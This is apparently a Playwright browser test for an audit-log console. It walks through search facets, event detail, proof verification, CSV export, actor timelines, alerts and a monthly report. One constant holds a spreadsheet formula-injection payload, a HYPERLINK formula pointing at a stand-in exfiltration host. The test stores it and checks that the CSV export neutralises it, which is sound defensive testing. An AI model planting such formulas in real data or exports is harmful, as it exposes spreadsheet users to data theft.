"""An analyst's and an officer's session in headless Chromium (issue 13): sign in as an
auditor, narrow a search with facet clicks, open an event, download its inclusion proof
and verify it with the CLI, export CSV, open the actor's timeline, filter alerts by
severity, open the monthly report. Every page is checked for what it shows and for
console errors; screenshots go to a temporary folder (printed, and kept in
``QUANGUARD_SCREENSHOTS`` when that is set)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from monitor.events import Actor, AuditEvent, EventDecision
from monitor.search import SearchQuery
from monitor.sql_search import SqlSearchBackend
from tests.console.conftest import LiveService
from tests.console.test_console_pages import sign_in_to
from tests.es_fixture import START

pytestmark = pytest.mark.browser

TZ = "Asia/Shanghai"
REPO = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/steal","打开报表")'


@pytest.fixture
def shots() -> Iterator[Path]:
    folder = Path(os.environ.get("QUANGUARD_SCREENSHOTS") or tempfile.mkdtemp(
        prefix="qg-console-shots-"))
    folder.mkdir(parents=True, exist_ok=True)
    yield folder
    print(f"\nscreenshots: {folder}")


@pytest.fixture
def watched(page: Any) -> list[str]:
    """Console errors and page errors of the page (must stay empty)."""
    errors: list[str] = []
    page.on("console", lambda m: errors.append(f"console {m.type}: {m.text}")
            if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(f"pageerror: {e}"))
    page.on("response", lambda r: errors.append(f"HTTP {r.status}: {r.url}")
            if r.status >= 400 else None)
    return errors


def _sql(live: LiveService, **kw: Any) -> Any:
    return SqlSearchBackend(live.container.session).search(SearchQuery(tz=TZ, **kw))


def _total(page: Any) -> int:
    return int(page.inner_text("#total"))


def _record_evil(live: LiveService) -> int:
    event = AuditEvent(ts=START, actor=Actor("ext-9", "consumer", "市人社局", "外部报表工具"),
                       action="export", reporter="svc-test", dataset="社保缴纳", grade="L3",
                       rows=12, purpose=EVIL, decision=EventDecision("allow"),
                       source_ip="10.9.8.7")
    with live.container.session() as session, session.begin():
        (stored,) = live.container.audit.record_batch(session, [replace(event)],
                                                      source="reporter")
    assert stored.seq is not None
    return stored.seq


def test_an_investigation_end_to_end(page: Any, make_live: Callable[..., LiveService],
                                     shots: Path, watched: list[str], tmp_path: Path) -> None:
    live = make_live(seed=400)
    evil_seq = _record_evil(live)
    sign_in_to(page, live, "auditor")

    # 1. Search the whole trail, then narrow it with a facet click and an exclusion.
    # (Each expected count is taken just before the page's own search, which is recorded
    # in the trail after it ran.)
    want = _sql(live)
    page.goto(f"{live.url}/console/search?sort=-ts")
    assert _total(page) == want.total
    org_link = page.locator('[data-facet="org"] a.include').first
    org = org_link.get_attribute("data-value")
    want = _sql(live, org=org)
    org_link.click()
    assert "org=" in page.url
    assert _total(page) == want.total
    page.screenshot(path=str(shots / "1-search-facet.png"), full_page=True)
    effect_row = page.locator('[data-facet="effect"] li').first
    effect = effect_row.locator("a.include").get_attribute("data-value")
    want = _sql(live, org=org, exclude=(("effect", effect),))
    effect_row.locator("a.exclude").click()
    assert f"not_effect={effect}" in page.url
    assert _total(page) == want.total
    assert effect not in {c.inner_text() for c in page.query_selector_all("#hits td.effect")}
    assert f"effect ≠ {effect}" in page.inner_text("#exclusions")
    # The histogram, facets and columns are there; the actor shows its name.
    assert page.query_selector("#histogram g.bar") is not None
    header = page.inner_text("#hits thead")
    for col in ("source IP", "outcome", "actor"):
        assert col in header

    # 2. Open an event: every field, the actor's name and org, raw JSON.
    page.goto(f"{live.url}/console/search?q=hyperlink")
    assert _total(page) == 1
    assert page.inner_text("#hits mark").lower() == "hyperlink"
    page.click(f'#hits tr[data-seq="{evil_seq}"] a.event-link')
    assert page.url.endswith(f"/console/events/{evil_seq}")
    assert page.inner_text("#actor-name") == "外部报表工具"
    assert page.inner_text("#actor-org") == "市人社局"
    assert page.inner_text('#fields tr[data-field="source.ip"] td') == "10.9.8.7"
    assert '"name": "外部报表工具"' in page.inner_text("#raw")
    page.screenshot(path=str(shots / "2-event.png"), full_page=True)

    # 3. Download its proof and checkpoint and verify them offline with the CLI.
    with page.expect_download() as got:
        page.click("#download-proof")
    proof = tmp_path / "proof.json"
    got.value.save_as(proof)
    with page.expect_download() as got:
        page.click("#download-checkpoint")
    checkpoint = tmp_path / "checkpoint.json"
    got.value.save_as(checkpoint)
    done = subprocess.run(
        [sys.executable, "-m", "quanguard.cli.main", "audit", "verify-proof", str(proof),
         "--checkpoint", str(checkpoint)], capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONPATH": str(REPO)}, cwd=tmp_path, check=False)
    assert done.returncode == 0, done.stderr
    assert "valid" in done.stdout and f"event {evil_seq}" in done.stdout

    # 4. Export the current search as CSV: every row, and no formula a spreadsheet runs.
    page.goto(f"{live.url}/console/search?dataset=社保缴纳&sort=seq")
    total = _total(page)
    with page.expect_download() as got:
        page.click("#export-csv")
    target = tmp_path / "export.csv"
    got.value.save_as(target)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert len(rows) == total
    (evil,) = [r for r in rows if r["seq"] == str(evil_seq)]
    assert evil["purpose"] == "'" + EVIL and evil["user.name"] == "外部报表工具"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows
               for v in r.values())
    exports = _sql(live, action="audit_export")
    assert exports.total == 1 and exports.hits[0].rows == total

    # 5. The actor's timeline: its events and alerts.
    page.goto(f"{live.url}/console/search?sort=-ts&role=provider")
    page.locator("#hits a.actor-link").first.click()
    assert "/console/actors/" in page.url
    actor_id = page.inner_text("#actor-id").removeprefix("id ").strip()
    assert actor_id == "u1" and _total(page) == _sql(live, actor=actor_id).total
    assert "卫健委数据源" in page.inner_text("#actor-title")
    assert page.query_selector("#actor-alerts") is not None
    page.screenshot(path=str(shots / "3-actor.png"), full_page=True)

    # 6. Alerts filtered by severity, with links to their events and counts that agree.
    page.goto(f"{live.url}/console/alerts?status=all")
    page.select_option("#alert-filters select[name=severity]", "medium")
    page.click("#filter-alerts")
    assert "severity=medium" in page.url
    rows_ = page.query_selector_all("#alerts tbody tr")
    assert rows_ and {r.get_attribute("data-severity") for r in rows_} == {"medium"}
    assert int(page.inner_text("#alert-total")) == len(rows_)
    first = rows_[0]
    links = first.query_selector_all("a.event-link")
    assert int(first.query_selector("td.seqs").get_attribute("data-events")) >= len(links) > 0
    page.screenshot(path=str(shots / "4-alerts.png"), full_page=True)
    links[0].click()
    assert "/console/events/" in page.url

    # 7. The monthly report, CJK text and inline charts, itself audited.
    page.goto(f"{live.url}/console/report?month=2026-03")
    assert "数据安全监管月报" in page.inner_text("h1")
    march = _sql(live, since=_month(2026, 3), until=_month(2026, 4))
    assert int(page.inner_text("#kpi-events b")) == march.total
    assert page.query_selector("#chart-org g") is not None
    assert "市人社局" in page.inner_text("#by-org")
    page.screenshot(path=str(shots / "5-report.png"), full_page=True)
    assert _sql(live, action="audit_report").total == 1

    assert watched == []


def _month(year: int, month: int) -> Any:
    from datetime import datetime
    from zoneinfo import ZoneInfo

    return datetime(year, month, 1, tzinfo=ZoneInfo(TZ))
